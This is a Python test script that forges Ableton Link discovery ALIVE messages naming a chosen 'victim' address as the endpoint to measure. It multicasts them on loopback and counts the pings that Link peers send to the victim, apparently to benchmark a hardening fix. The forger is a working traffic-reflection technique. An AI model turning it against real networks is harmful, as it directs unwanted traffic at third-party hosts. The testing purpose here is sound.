"""Forged Ableton Link sessions for jambridge's Link hardening test and benchmark (issue 41): hand-made ALIVE
messages of Link's discovery protocol, each from a peer that founded a session of its own, all naming one address
as the endpoint to measure them at. Run it in a network namespace of the test's own: it multicasts to Link's group
224.76.78.75:20808 out of loopback (127.0.0.1), as Link does there.

A Link peer that hears a session it does not know measures it: it opens a socket and pings the endpoint the ALIVE
names (its "mep4" entry) until that answers or five 50 ms timeouts pass. The named endpoint here is a socket of this
script's (VICTIM, an address of loopback such as 127.0.0.2), which counts the pings, never answering. The socket the
ALIVEs go out of counts what comes back to it (Link answers each ALIVE with a RESPONSE to its sender).

The message (ableton/discovery/v1/Messages.hpp, ableton/link/*.hpp; all numbers big-endian):
  "_asdp_v" 0x01                      protocol header
  type u8 (1 ALIVE), ttl u8 (seconds), group u16 (0), node id 8 bytes
  then entries, each key u32, size u32, value:
    'tmln' tempo (µs a beat) i64, beat origin (µbeats) i64, time origin (µs) i64
    'sess' session id 8 bytes (here the node's own: it founded the session)
    'stst' playing u8, beats i64, timestamp (µs) i64
    'mep4' IPv4 address u32, port u16  (where to measure the node)

  link_forger.py VICTIM_HOST VICTIM_PORT SESSIONS RATE SECONDS

sends RATE ALIVEs a second for SECONDS seconds, cycling through SESSIONS forged sessions, then waits a second for the
last pings and prints one JSON line: {"sent": ALIVEs, "pings": datagrams at the victim, "ping_bytes": their bytes,
"responses": datagrams back to the sender}.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

GROUP = ("224.76.78.75", 20808)


def entry(key, value):
    return key + struct.pack(">I", len(value)) + value


def alive(node, victim):
    host, port = victim
    return (b"_asdp_v\x01" + struct.pack(">BBH", 1, 5, 0) + node
            + entry(b"tmln", struct.pack(">qqq", 500_000, 0, 0))
            + entry(b"sess", node)
            + entry(b"stst", struct.pack(">?qq", False, 0, 0))
            + entry(b"mep4", socket.inet_aton(host) + struct.pack(">H", port)))


def count(sock, tally, stop):
    sock.settimeout(0.1)
    while not stop.is_set():
        try:
            data = sock.recv(2048)
        except socket.timeout:
            continue
        tally[0] += 1
        tally[1] += len(data)


def main():
    host, port, sessions, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind((host, port))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    sender.bind(("127.0.0.1", 0))
    messages = [alive(os.urandom(8), (host, port)) for _ in range(sessions)]
    pings, responses, stop = [0, 0], [0, 0], threading.Event()
    counters = [threading.Thread(target=count, args=(s, t, stop)) for s, t in ((victim, pings), (sender, responses))]
    for counter in counters:
        counter.start()
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        # As many as are due by now, then a millisecond's sleep.
        due = int((time.monotonic() - start) * rate)
        while sent < due:
            sender.sendto(messages[sent % sessions], GROUP)
            sent += 1
        time.sleep(0.001)
    time.sleep(1)
    stop.set()
    for counter in counters:
        counter.join()
    print(json.dumps({"sent": sent, "pings": pings[0], "ping_bytes": pings[1], "responses": responses[0]}), flush=True)


if __name__ == "__main__":
    main()
